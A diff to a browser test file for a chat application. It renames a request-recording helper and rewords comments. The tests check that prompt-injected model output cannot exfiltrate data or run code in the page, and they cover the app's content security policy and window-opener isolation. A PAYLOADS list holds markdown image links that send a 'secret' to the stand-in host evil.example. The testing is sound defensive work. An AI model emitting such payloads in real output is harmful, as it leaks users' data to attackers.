@@ -1,9 +1,9 @@
 import { expect, test } from "./fixtures.ts";
-import { watchForeign } from "./support/foreign-requests.ts";
+import { recordForeignRequests } from "./support/foreign-requests.ts";
 
 const EVIL = "https://evil.example";
 
-/** What an injected model would write to carry data out of the page, or to run in it. */
+/** What a model under prompt injection might write to exfiltrate data or run code in the page. */
 const PAYLOADS = [
   `![secret](${EVIL}/a.png?q=secret)`,
   `![][ref]\n\n[ref]: ${EVIL}/b.png`,
@@ -34,7 +34,7 @@ test("a model's output can't make the browser send requests elsewhere, run code 
   test.setTimeout(120_000);
   consoleErrors.allow(/Content Security Policy/);
   await login("carol");
-  const foreign = watchForeign(page, new URL(baseURL ?? "").origin);
+  const foreign = recordForeignRequests(page, new URL(baseURL ?? "").origin);
   const script = `script:\n${JSON.stringify([`Here you are.\n\n${PAYLOADS.join("\n\n")}\n\nThat was all.`])}`;
   await page.getByRole("textbox", { name: "Message" }).fill(script);
   await page.getByRole("textbox", { name: "Message" }).press("Enter");
@@ -54,8 +54,8 @@ test("a model's output can't make the browser send requests elsewhere, run code 
   await expect(inert).toHaveCount(0);
 });
 
-test("the page works under its policy: Chromium reports nothing that it refused", async ({ page, login }) => {
-  // A refusal is an error in the console, and the fixture fails the test on any.
+test("the page works under its policy: Chromium reports no violation", async ({ page, login }) => {
+  // A violation is a console error, which fails the test by the fixture.
   await login("carol");
   await page.getByRole("textbox", { name: "Message" }).fill("Hello");
   await page.getByRole("textbox", { name: "Message" }).press("Enter");
@@ -119,7 +119,7 @@ test("a page of another site that opens the app has no reference to its window",
   const opened = await page.evaluateHandle((address) => window.open(address), `${baseURL}/chat`);
   const app = await opening;
   await expect(app.getByRole("textbox", { name: "Message" })).toBeVisible();
-  // To the page that opened it, the window looks closed: nothing can be done with it.
+  // To the page that opened it, the window looks closed.
   expect(await opened.evaluate((held) => held?.closed)).toBe(true);
   expect(await app.evaluate(() => window.opener)).toBeNull();
 });
